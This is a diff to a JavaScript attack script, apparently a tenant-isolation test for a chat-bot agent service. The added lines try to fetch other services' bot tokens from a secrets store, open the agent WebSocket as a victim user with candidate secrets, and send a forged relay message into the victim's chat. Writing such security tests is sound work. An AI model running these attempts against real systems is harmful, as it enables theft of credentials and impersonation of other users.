@@ -90,6 +90,9 @@ const calls = [
   ["secrets", "get", ["users/" + victim + "/llm-api-key"]],
   ["secrets", "get", ["telegram/webhook-secret"]],
   ["secrets", "get", ["slack/signing-secret"]],
+  ["secrets", "get", ["telegram/bot-token"]],
+  ["secrets", "get", ["discord/bot-token"]],
+  ["secrets", "get", ["slack/bot-token"]],
   ["settings", "get", [victim, "settings"]],
   ["settings", "list", [victim, ""]],
   ["settings", "put", [self, "usage#" + new Date().toISOString().slice(0, 7), { agentSeconds: 0, starts: 0 }]],
@@ -132,18 +135,25 @@ for (const origin of origins) {
       });
     }
   }
-  // 4. The agent WebSocket: connect as the other user's agent with every candidate as its secret.
-  for (const token of candidates) {
-    await attempt("agent socket as victim", () => new Promise((resolve) => {
-      const url = origin.replace(/^http/, "ws") + "/agent?userId=" + encodeURIComponent(victim) + "&secret=" + encodeURIComponent(token);
-      const ws = new WebSocket(url);
-      const timer = setTimeout(() => { ws.close(); resolve({ ok: false, status: "timeout" }); }, 5000);
-      ws.onopen = () => { clearTimeout(timer); ws.close(); resolve({ ok: true, status: "open" }); };
-      ws.onerror = () => { clearTimeout(timer); resolve({ ok: false, status: "refused" }); };
-    }));
+  // 4. The agent WebSocket: connect as the other user's agent, or as its own (the chat relay lives on
+  // that link: a bot message into another user's chat), with every candidate as the secret; once open,
+  // ask the relay to post into the victim's chat.
+  const relayFrame = JSON.stringify({ type: "agent.relay", id: "x1", pendingId: "2026-01-01T00:00:00.000Z#x", call: { op: "telegram.send", text: "FORGED", html: false } });
+  for (const [who, userId] of [["victim", victim], ["itself", self]]) {
+    for (const token of candidates) {
+      await attempt("agent socket as " + who + ", then the chat relay", () => new Promise((resolve) => {
+        const url = origin.replace(/^http/, "ws") + "/agent?userId=" + encodeURIComponent(userId) + "&secret=" + encodeURIComponent(token);
+        const ws = new WebSocket(url);
+        const timer = setTimeout(() => { ws.close(); resolve({ ok: false, status: "timeout" }); }, 5000);
+        ws.onopen = () => { clearTimeout(timer); ws.send(relayFrame); setTimeout(() => ws.close(), 500); resolve({ ok: true, status: "open" }); };
+        ws.onerror = () => { clearTimeout(timer); resolve({ ok: false, status: "refused" }); };
+      }));
+    }
   }
 }
 report.attemptCount = report.attempts.length;
+report.kinds = {};
+for (const a of report.attempts) report.kinds[a.what] = (report.kinds[a.what] ?? 0) + 1;
 report.attempts = report.attempts.slice(0, 50);
 writeFileSync(out, JSON.stringify(report));
 console.log("attack finished: " + report.attemptCount + " attempts, " + report.breaches.length + " breaches");
